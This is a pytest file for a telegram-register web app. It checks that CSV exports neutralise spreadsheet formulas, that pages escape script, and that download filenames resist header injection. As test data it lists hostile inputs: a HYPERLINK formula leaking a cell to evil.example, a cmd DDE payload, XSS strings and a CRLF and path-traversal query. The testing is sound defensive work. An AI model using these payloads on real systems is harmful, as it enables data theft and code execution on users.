"""Attack: a subject, a holder or a reason that a spreadsheet would calculate.

Whoever may put words into a register (a correspondent by a subject, an office by the reason of a
void) does not thereby run anything at whoever opens the file that the desk gives out.
"""

import csv
import io
from typing import Any

import pytest

from tests.desks import visit
from tests.unit.web import registry_lines as lines

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "  =1+1",
    "\r=1",
    "\uff1d1+1",
    'a","=1+1',
    "a\r\n=1+1",
    "\u202e=1",
)
CALCULATED = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def given_out(book: str, question: str, answer: Any) -> list[dict[str, str]]:
    visitor = visit({question: answer, "neighbours": lines.NEIGHBOURS})
    text = visitor.get(f"/register/{book}/csv?span=all").text
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def must_be_harmless(rows: list[dict[str, str]]) -> None:
    assert len(rows) == 1, "no words begin a line of their own"
    (row,) = rows
    assert None not in row, "no words begin a cell of their own"
    for cell in row.values():
        if not cell.lstrip("-").isdigit():
            assert not cell.lstrip(" ").startswith(CALCULATED), cell


@pytest.mark.parametrize("words", HOSTILE)
@pytest.mark.parametrize("book", ["out", "in", "special"])
def test_a_subject_that_a_spreadsheet_would_calculate(book: str, words: str) -> None:
    telegram = {**lines.NUMBERED, "subject": words, "from": words, "to": [words]}
    must_be_harmless(given_out(book, "book", [telegram]))


@pytest.mark.parametrize("words", HOSTILE)
def test_a_reason_that_a_spreadsheet_would_calculate(words: str) -> None:
    void = lines.span("void", 7, office="clerk@moscow", reason=words, at=lines.AT)
    must_be_harmless(given_out("out", "book", [void]))


@pytest.mark.parametrize("words", HOSTILE)
def test_a_holder_that_a_spreadsheet_would_calculate(words: str) -> None:
    said = dict.fromkeys(("holder", "act", "done_by", "witness", "shelf", "certified_by"), words)
    must_be_harmless(given_out("copies", "copy-book", [{**lines.LEDGER[1], **said}]))


@pytest.mark.parametrize("words", HOSTILE)
def test_a_log_and_a_service_message_that_a_spreadsheet_would_calculate(words: str) -> None:
    log = {"station": "a", "entries": [{**lines.LOGGED, "subject": words}], "next": None}
    must_be_harmless(given_out("log", "log", log))
    must_be_harmless(given_out("service", "service-book", [{**lines.SERVICE, "subject": words}]))


@pytest.mark.parametrize("words", ["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>'])
def test_words_that_would_run_in_a_page(words: str) -> None:
    """Attack (XSS): every word of a register, a ledger, a task and an alarm is shown as words."""
    telegram = {**lines.NUMBERED, "subject": words, "to": [words], "local_precedence": words}
    copy = {**lines.COPY, "holder": words}
    visitor = visit(
        {
            "offices": lines.OFFICES,
            "series": [{"series": words}],
            "book": [telegram, lines.span("void", 7, office=words, reason=words, at=1)],
            "book-sums": lines.SUMS,
            "copies": {**lines.OF_TELEGRAM, "copies": [copy]},
            "control": [{**lines.TASK, "subject": words, "office": words}],
            "overdue": [],
            "alarms": [{**lines.ALARM, "text": words, "note": words}],
        }
    )
    for path in ("/register/out", "/copies/moscow/1951/26044", "/control", "/alarms"):
        page = visitor.get(path).text
        assert words not in page, path
        assert "&lt;" in page, path


def test_a_name_of_a_file_is_made_of_nothing_that_was_typed() -> None:
    """Attack: a register whose name would end the header, or name another file."""
    visitor = visit({"book": lines.BOOK})
    answer = visitor.get("/register/special/csv?series=..%2f..%22%0d%0aX-Evil:1&span=all")
    assert answer.headers["Content-Disposition"] == 'attachment; filename="pyongyang-special.csv"'
    assert "X-Evil" not in answer.headers
